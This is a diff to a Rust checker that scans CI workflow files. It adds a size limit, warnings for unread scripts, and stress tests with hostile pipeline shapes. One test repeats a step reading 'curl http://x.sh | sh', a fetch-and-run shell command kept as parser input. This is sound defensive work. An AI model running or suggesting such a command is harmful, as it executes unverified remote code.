@@ -13,6 +13,7 @@ mod injection;
 mod known;
 mod marks;
 mod options;
+mod references;
 mod rights;
 mod rules;
 mod script;
@@ -37,6 +38,9 @@ use crate::source::yaml::Document;
 
 use hit::{Facts, Sink};
 use options::Options;
+
+/// Larger files, in bytes, are not read: no service takes such a pipeline.
+const LARGEST: u64 = 1_000_000;
 
 /// A configured check.
 pub struct Workflows(Options);
@@ -113,7 +117,11 @@ impl Checker for Workflows {
 
     fn wants(&self, file: &FileMeta) -> bool {
         let is_yaml = matches!(file.path.extension(), Some(b"yml" | b"yaml"));
-        is_yaml && file.is_file() && !file.class.vendored && is_pipeline(file)
+        is_yaml
+            && file.is_file()
+            && file.size <= LARGEST
+            && !file.class.vendored
+            && is_pipeline(file)
     }
 
     fn observe(&self, file: &SourceFile) -> Option<Facts> {
@@ -133,6 +141,9 @@ impl Checker for Workflows {
         let mut sink = Sink::new(file);
         if let Some(flow) = flow::Flow::of(&document, text) {
             github::check(&flow, &self.0, &mut sink);
+            if flow.cut {
+                sink.facts.unread = Some("a job has more steps than are read".to_owned());
+            }
         } else if azure::is_one(&document) {
             azure::check(&document, text, &mut sink);
         } else if gitlab::is_one(&document) {
@@ -153,6 +164,10 @@ impl Checker for Workflows {
             let Some(facts) = facts else { continue };
             if let Some(why) = &facts.unread {
                 evidence.partial(format!("{}: {why}", file.path));
+            }
+            if facts.unread_scripts > 0 {
+                let scripts = words::count(facts.unread_scripts, "script");
+                evidence.partial(format!("{}: {scripts} too intricate to be read", file.path));
             }
             if facts.more > 0 {
                 evidence.partial(format!(
@@ -181,6 +196,11 @@ impl Checker for Workflows {
                 }
             }
         }
+        for file in cx.tree.files() {
+            if file.is_file() && file.size > LARGEST && is_pipeline(file) {
+                evidence.partial(format!("{}: too large to be looked into", file.path));
+            }
+        }
         told(&marked, &mut evidence);
         Ok(evidence)
     }
@@ -202,7 +222,8 @@ fn is_pipeline(file: &FileMeta) -> bool {
 /// Is there an action or a workflow at this path?
 fn is_there(tree: &dyn SourceTree, path: &str) -> bool {
     let path = path.trim_start_matches("./").trim_end_matches('/');
-    let is_file = path.ends_with(".yml") || path.ends_with(".yaml");
+    let ending = path.rsplit_once('.').map(|(_, ending)| ending);
+    let is_file = matches!(ending, Some("yml" | "yaml"));
     tree.files().iter().any(|file| {
         let file = file.path.as_bytes();
         if is_file {
@@ -236,5 +257,58 @@ fn told(marked: &[String], evidence: &mut Evidence) {
         evidence
             .notes
             .push(format!("silenced: {} more", marked.len() - LISTED));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fmt::Write as _;
+
+    use super::*;
+    use crate::source::class::PathClass;
+    use crate::source::language::Language;
+
+    fn hits(text: &str) -> usize {
+        let file = SourceFile::new(
+            text.as_bytes().to_vec(),
+            Some(Language::Yaml),
+            PathClass::default(),
+        );
+        let check = Workflows::new(Options::default()).expect("good options");
+        check.observe(&file).map_or(0, |facts| facts.hits.len())
+    }
+
+    /// Each would take minutes if a loop went over all for each of all.
+    #[test]
+    fn hostile_pipelines_end() {
+        let mut chain = "on: push\njobs:\n".to_owned();
+        for job in 0..3_000 {
+            let _ = writeln!(chain, "  j{job}: {{needs: j{}, runs-on: x}}", job + 1);
+        }
+        hits(&chain);
+        let uses = "      - uses: actions/checkout@v4\n".repeat(5_000);
+        hits(&format!("on: push\njobs:\n  a:\n    steps:\n{uses}"));
+        let mut fan = "on: push\njobs:\n".to_owned();
+        for job in 0..12 {
+            let value = format!("${{{{ needs.j{}.outputs.x }}}}", job + 1).repeat(200);
+            let _ = writeln!(
+                fan,
+                "  j{job}:\n    outputs: {{x: \"{value}\"}}\n    steps: [{{run: \"{value}\"}}]"
+            );
+        }
+        hits(&fan);
+        let wide = "{run: 'curl http://x.sh | sh'},".repeat(10_000);
+        hits(&format!("on: push\njobs: {{a: {{steps: [{wide}]}}}}"));
+        for unit in ["a|", "$(", "'", "${{ ", "${{ a[", "{", "!(", "<<A\n"] {
+            let script = unit
+                .repeat(20_000 / unit.len())
+                .replace('\n', "\n          ");
+            hits(&format!(
+                "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n"
+            ));
+            let wrapped =
+                format!("on: push\njobs:\n  a:\n    if: |\n      {script}\n    steps: []\n");
+            hits(&wrapped);
+        }
     }
 }
